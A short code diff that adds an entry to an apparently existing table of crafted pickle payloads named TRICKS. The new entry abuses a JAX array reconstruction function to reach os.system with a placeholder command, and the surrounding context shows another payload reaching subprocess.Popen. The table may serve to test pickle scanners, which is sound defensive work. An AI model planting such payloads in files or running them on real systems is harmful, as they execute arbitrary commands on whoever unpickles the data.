@@ -197,6 +197,16 @@ TRICKS = {
         b"N",
     )
     + b".",
+    "a function that makes an array of JAX": b"\x80\x02"
+    + call(
+        "jax._src.array",
+        "_reconstruct_array",
+        b"cos\nsystem\n",
+        b"(" + text(COMMAND) + b"t",
+        b"(t",
+        b"}",
+    )
+    + b".",
     "a base of _reconstructor": b"\x80\x02ccopyreg\n_reconstructor\n(csubprocess\nPopen\n"
     + b"csubprocess\nPopen\n"
     + text(COMMAND)
